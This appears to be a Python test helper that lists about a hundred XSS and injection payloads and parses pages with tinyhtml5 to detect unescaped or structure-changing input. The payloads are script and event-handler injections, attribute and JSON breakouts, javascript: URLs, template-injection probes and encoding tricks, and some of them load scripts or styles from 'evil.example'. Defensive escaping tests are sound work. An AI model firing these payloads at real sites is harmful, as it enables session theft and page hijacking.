"""Texts that would run if any page took them for markup. Every one sets `window.__xss` or opens a dialog."""

import html
from collections import Counter
from collections.abc import Iterator
from typing import Any

import tinyhtml5

RUN = "window.__xss=1"
VECTORS = [
    # elements
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<script\t>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    # handlers
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x oneonerrorrror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    "<img src=x onerror=alert(1)//",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributename=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    f"<math><mtext></mtext><img src=x onerror={RUN}></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<div onpointerover={RUN}>x</div>",
    f"<a onclick={RUN}>x</a>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>",
    "<table background=//evil.example/x>",
    # out of an attribute
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}',
    f"x onfocus={RUN} autofocus",
    f'"/><svg onload={RUN}>',
    f'"\\"><img src=x onerror={RUN}>',
    '" style="position:fixed;inset:0" x="',
    '" hx-get="//evil.example/" hx-trigger="load" x="',
    f'" hx-on:load="{RUN}" x="',
    # out of JSON and scripts
    f'"}};{RUN};//',
    f"';{RUN};//",
    f"\\';{RUN};//",
    "</script\u2028><script>alert(1)</script>",
    f"\u2028{RUN}\u2029",
    f"${{{RUN}}}",
    # addresses
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}".replace("\x01", ""),
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"[x](javascript:{RUN})",
    f"![x](x){{onerror={RUN}}}",
    f"<javascript:{RUN}>",
    "//evil.example/x",
    # templates
    "{{7*7}}{{ request.user.password }}",
    "{% debug %}{% include 'base.html' %}",
    "{{ ''|safe }}<b>{% autoescape off %}",
    "#{7*7}<%= 7*7 %>",
    "%(name)s %s {0} {name}",
    # encodings
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u202e>tpircs<{RUN}",
    f"<\u200bscript>{RUN}</script>",
    f"<scr\u00adipt>{RUN}</scr\u00adipt>",
    "<b>bold</b><h1>big</h1>",
    "a & b &amp; c &copy; &nbsp;",
]
# These look the same written out as they are; what they would do shows in the bones or in the browser.
MARKUP = [vector for vector in VECTORS if any(sign in vector for sign in "<>\"'")]


def chunks(longest: int) -> Iterator[str]:
    """The corpus in pieces that fit a field; a longer one is cut, which makes it no tamer."""
    piece = ""
    for vector in VECTORS:
        if piece and len(piece) + len(vector) + 1 > longest:
            yield piece
            piece = ""
        piece = f"{piece} {vector}".strip()[:longest]
    yield piece


ADDRESSES = {"href", "src", "action", "formaction", "srcdoc", "data", "poster", "background", "style"}


def bones(page: str) -> Counter[tuple[str, ...]]:
    """What a page is made of: elements with the names of their attributes, and the kinds of addresses.

    Whatever people write, the bones of a page stay the same.
    """
    found: Counter[tuple[str, ...]] = Counter()
    for element in tinyhtml5.parse(page, namespace_html_elements=False).iter():
        if not isinstance(element.tag, str):
            found["comment",] += 1
            continue
        attributes = {str(name).lower(): value for name, value in element.attrib.items()}
        kinds = sorted(f"{name}:{_kind(value)}" for name, value in attributes.items() if name in ADDRESSES)
        found[(element.tag, *sorted(attributes), *kinds)] += 1
    return found


def _kind(address: str) -> str:
    """An address on this site, or which other kind of address it is."""
    text = address.strip().lower()
    if text.startswith("//"):
        return "elsewhere"
    scheme, colon, _ = text.partition(":")
    return scheme if colon and scheme.isalnum() else "here"


def raw_in(page: str) -> list[str]:
    """Vectors that stand in a page as they were written, not escaped."""
    return [vector for vector in MARKUP if vector in page and html.escape(vector) != vector]


def difference(benign: Counter[Any], nasty: Counter[Any]) -> dict[str, list[Any]]:
    """What there is more and less of than there should be; empty when the bones are the same."""
    more, less = nasty - benign, benign - nasty
    return {"more": sorted(more), "less": sorted(less)} if more or less else {}
